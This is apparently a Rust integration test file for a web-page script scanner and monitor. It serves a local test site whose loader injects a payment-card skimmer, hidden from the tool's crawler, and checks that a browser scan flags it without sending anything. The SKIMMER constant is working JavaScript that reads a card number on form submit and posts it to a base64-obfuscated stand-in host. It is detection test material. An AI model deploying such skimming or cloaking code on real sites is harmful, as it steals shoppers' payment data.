//! `verdict scan https://...` and `verdict monitor observe --from-url` as people run them, with pages on this machine.

#![allow(clippy::unwrap_used, reason = "what is not as expected fails the test")]

use std::time::{Duration, Instant};

use crate::binary::{Folder, run};
use crate::site::{Answer, Asked, Site};
use serde_json::Value;

/// A skimmer of our own, which sends nothing anywhere that exists.
const SKIMMER: &str = "document.querySelector('#pay').addEventListener('submit', function () {\n\
    var card = document.querySelector('input[name=cc_number]').value;\n\
    fetch(atob('aHR0cHM6Ly9jLmV4YW1wbGUvZw=='), { method: 'POST', body: card });\n});";

fn answer(asked: &Asked) -> Answer {
    let is_crawler = asked.header("user-agent").starts_with("pagewarden/");
    match asked.path.as_str() {
        "/" => Answer::html(
            "<!doctype html><script src=/plain.js></script><script src=/loader.js></script><a href=/two>two</a>\
             <form id=pay action=/pay method=post><input name=cc_number></form>",
        ),
        "/two" => Answer::html("<script>console.log('two')</script>"),
        "/clean" => Answer::html("<script src=/plain.js></script><script src=/gone.js></script>"),
        "/plain.js" => Answer::script("function add(a, b) { return a + b; }\nconsole.log(add(1, 2));"),
        "/loader.js" => Answer::script(
            "var s = document.createElement('script');\ns.src = '/skim.js';\ndocument.head.append(s);",
        ),
        "/skim.js" if is_crawler => Answer::script("console.log('nothing to see')"),
        "/skim.js" => Answer::script(SKIMMER),
        "/robots.txt" => Answer::Body(200, "text/plain", "User-agent: *\nDisallow: /admin".to_owned()),
        _ => Answer::none(),
    }
}

fn row<'a>(document: &'a Value, end: &str) -> &'a Value {
    let rows = document["results"].as_array().unwrap();
    rows.iter().find(|row| row["url"].as_str().is_some_and(|url| url.ends_with(end))).unwrap()
}

#[test]
fn an_address_gives_a_table_and_a_document() {
    let site = Site::start(answer);
    let url = site.url("/clean");
    let ran = run(&["scan", &url, "--allow-private"]);
    assert_eq!(ran.status, Some(0), "{ran:?}");
    assert!(ran.stdout.contains("SEEN BY") && ran.stdout.contains("/plain.js"), "{}", ran.stdout);
    assert!(ran.stdout.contains("1 script has no body: not scored"), "{}", ran.stdout);

    let ran = run(&["scan", &url, "--allow-private", "--format", "json", "--require-bodies"]);
    assert_eq!(ran.status, Some(3));
    let document = ran.document();
    let plain = row(&document, "/plain.js");
    assert_eq!(plain["standing"], "clean");
    assert_eq!((&plain["seen_by"], &plain["execution"]), (&"network".into(), &"runs".into()));
    assert_eq!(plain["initiator_chain"][0]["kind"], "page");
    assert_eq!(plain["initiator_chain"][0]["url"].as_str(), Some(url.as_str()));
    assert_eq!(plain["page_urls"][0].as_str(), Some(url.as_str()));
    assert_eq!(row(&document, "/gone.js")["standing"], "unknown");
    let schema: Value = serde_json::from_slice(
        &std::fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/schema/scan.schema.json")).unwrap(),
    )
    .unwrap();
    let mut schemas = boon::Schemas::new();
    let mut compiler = boon::Compiler::new();
    compiler.add_resource("scan.json", schema).unwrap();
    let schema = compiler.compile("scan.json", &mut schemas).unwrap();
    schemas.validate(&document, schema).unwrap();
}

#[test]
fn what_cannot_be_visited_is_told_with_what_helps() {
    let site = Site::start(answer);
    for (url, wanted) in [
        (site.url("/none"), "expected status 200, got 404"),
        (site.url("/admin/x"), "--ignore-robots"),
        ("http://127.0.0.1:1/".to_owned(), "the connection failed"),
        ("http://169.254.169.254/".to_owned(), "not allowed"),
        ("https://".to_owned(), "empty host"),
    ] {
        let ran = run(&["scan", &url, "--allow-private"]);
        assert_eq!(ran.status, Some(3), "{url}: {ran:?}");
        assert!(ran.stdout.contains(wanted), "{url}: {}", ran.stdout);
    }
    for (typed, hint) in [("shop.example/pay?x=1", true), ("nowhere.html", false), ("nowhere", false)] {
        let ran = run(&["scan", typed]);
        assert_eq!(ran.status, Some(3), "{typed}: {ran:?}");
        let all = format!("{}{}", ran.stdout, ran.stderr);
        assert_eq!(all.contains(&format!("write https://{typed}")), hint, "{typed}: {all}");
    }
    // A password in an address is shown nowhere.
    let with_password = site.url("/none").replace("http://", "http://kim:geheim@");
    let ran = run(&["scan", &with_password, "--allow-private"]);
    assert_eq!(ran.status, Some(3), "{ran:?}");
    assert!(!format!("{}{}", ran.stdout, ran.stderr).contains("geheim"), "{ran:?}");
    let ran = run(&["scan", &site.url("/")]);
    assert_eq!(ran.status, Some(3));
    assert!(ran.stdout.contains("--allow-private"), "{}", ran.stdout);
    assert!(site.asked().iter().all(|asked| asked.path != "/"));
    // One page that cannot be read costs no other.
    let ran = run(&["scan", &site.url("/none"), &site.url("/two"), "--allow-private", "--format", "json"]);
    assert_eq!((ran.status, ran.document()["summary"]["scripts"].as_u64()), (Some(3), Some(1)));
    let ran =
        run(&["scan", &site.url("/two"), "--allow-private", "--browser", "--chromium", "/nowhere/chromium"]);
    assert_eq!(ran.status, Some(2));
    assert!(ran.stderr.contains("no browser at /nowhere/chromium"), "{}", ran.stderr);
}

#[test]
fn links_and_lists_of_pages_are_followed() {
    let site = Site::start(answer);
    let count = |arguments: &[&str]| {
        let mut all = vec!["scan", "--allow-private", "--format", "jsonl"];
        all.extend(arguments);
        let ran = run(&all);
        let pages: std::collections::BTreeSet<String> =
            ran.lines().iter().filter_map(|line| Some(line["file"].as_str()?.to_owned())).collect();
        pages.len()
    };
    assert_eq!(count(&[&site.url("/")]), 1);
    assert_eq!(count(&[&site.url("/"), "--depth", "1"]), 2);
    assert_eq!(count(&[&site.url("/"), "--depth", "1", "--max-pages", "0"]), 1);
    let folder = Folder::new(&[(
        "pages.txt",
        format!("# ours\n{}\n\n{}\n", site.url("/"), site.url("/two")).as_bytes(),
    )]);
    let start = Instant::now();
    assert_eq!(count(&["--pages", &folder.at("pages.txt")]), 2);
    // Between two pages of a site is a pause.
    assert!(start.elapsed() >= Duration::from_millis(500), "{:?}", start.elapsed());
}

#[test]
fn a_browser_finds_what_a_crawler_is_not_shown() {
    let site = Site::start(answer);
    let Some(_) = crate::site::browser(&crate::site::options(), &capture::BrowserOptions::default()) else {
        return;
    };
    let folder = Folder::new(&[("steps.txt", b"fill input[name=cc_number] = {card}\nsubmit #pay\n")]);
    let (report, archive) = (folder.at("report.html"), folder.at("shop.har"));
    let url = site.url("/");
    let alone = run(&["scan", &url, "--allow-private"]);
    assert_eq!(alone.status, Some(0), "{}", alone.stdout);

    let arguments = [
        "scan",
        &url,
        "--allow-private",
        "--browser",
        "--max-time",
        "60",
        "--script",
        &folder.at("steps.txt"),
    ];
    let mut all = arguments.to_vec();
    all.extend(["--format", "json", "--report", &report, "--save", &archive]);
    let ran = run(&all);
    assert_eq!(ran.status, Some(1), "{ran:?}");
    let document = ran.document();
    let rows = document["results"].as_array().unwrap();
    let skim: Vec<&Value> =
        rows.iter().filter(|row| row["url"].as_str().is_some_and(|url| url.ends_with("/skim.js"))).collect();
    assert_eq!(skim.len(), 2, "{skim:?}");
    let by_browser = skim.iter().find(|row| row["seen_by"] == "browser").unwrap();
    assert_eq!((&by_browser["malicious"], &by_browser["differs"]), (&true.into(), &true.into()));
    let chain: Vec<&str> = by_browser["initiator_chain"]
        .as_array()
        .unwrap()
        .iter()
        .map(|one| one["kind"].as_str().unwrap())
        .collect();
    assert_eq!(chain, ["script", "page"]);
    assert_eq!(by_browser["initiator_chain"][0]["line"], 3);
    // The form and what the skimmer would send are recorded, and not sent.
    let held: Vec<&str> =
        rows.iter().filter(|row| row["held_back"] == true).filter_map(|row| row["url"].as_str()).collect();
    assert!(held.iter().any(|url| url.starts_with("https://c.example")), "{held:?}");
    assert!(site.asked().iter().all(|asked| asked.method != "POST"));
    picture(&report);
    let report = std::fs::read_to_string(&report).unwrap();
    for text in ["Started by", "browser and network got different bytes", "/loader.js, line 3"] {
        assert!(report.contains(text), "{text}");
    }

    // The archive gives the same again, without the site.
    let again = run(&["scan", &archive]);
    assert_eq!(again.status, Some(1), "{again:?}");
    let sarif = run(&[&arguments[..], &["--format", "sarif"]].concat()).document();
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    let accused = results.iter().find(|result| result["ruleId"] == "malicious-script").unwrap();
    assert_eq!(accused["properties"]["seen_by"], "browser");
    assert!(
        accused["stacks"][0]["frames"][0]["location"]["physicalLocation"]["artifactLocation"]["uri"]
            .as_str()
            .unwrap()
            .ends_with("/loader.js")
    );
}

/// Makes the picture of docs/capture.md:
///
/// ```sh
/// VERDICT_SCREENSHOTS=docs/images cargo test -p pagewarden-verdict-cli --test it live::a_browser_finds
/// ```
fn picture(report: &str) {
    let Some(target) = std::env::var_os("VERDICT_SCREENSHOTS") else { return };
    let Some(browser) = crate::webdriver::Browser::start() else { return };
    let target = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").join(target);
    std::fs::create_dir_all(&target).unwrap();
    browser.open(report);
    browser.resize(1200, 1000, "light");
    std::thread::sleep(Duration::from_millis(200));
    std::fs::write(target.join("report-live.png"), browser.screenshot()).unwrap();
}

#[test]
fn a_canary_keeps_what_it_sees() {
    let site = Site::start(answer);
    let folder = Folder::new(&[]);
    let state = folder.at("canary.db");
    let url = site.url("/clean");
    let observe = [
        "monitor",
        "--state",
        &state,
        "observe",
        "--from-url",
        &url,
        "--allow-private",
        "--at",
        "2026-11-28T08:00:00Z",
    ];
    // With the third report a resource is active, and people are told.
    let alerts: Vec<String> = (0..4)
        .map(|_| {
            let ran = run(&observe);
            assert_eq!(ran.status, Some(0), "{ran:?}");
            ran.stdout
        })
        .collect();
    let told: Vec<bool> = alerts.iter().map(|alerts| alerts.contains("\"new_resource\"")).collect();
    assert_eq!(told, [false, false, true, false], "{alerts:?}");
    let listed = run(&["monitor", "--state", &state, "list"]);
    let plain = listed
        .lines()
        .into_iter()
        .find(|line| line["url"].as_str().is_some_and(|url| url.ends_with("/plain.js")));
    assert_eq!(plain.unwrap()["page_urls"][0].as_str(), Some(url.as_str()));
    let gone =
        run(&["monitor", "--state", &state, "observe", "--from-url", &site.url("/none"), "--allow-private"]);
    assert_eq!(gone.status, Some(3), "{gone:?}");
}
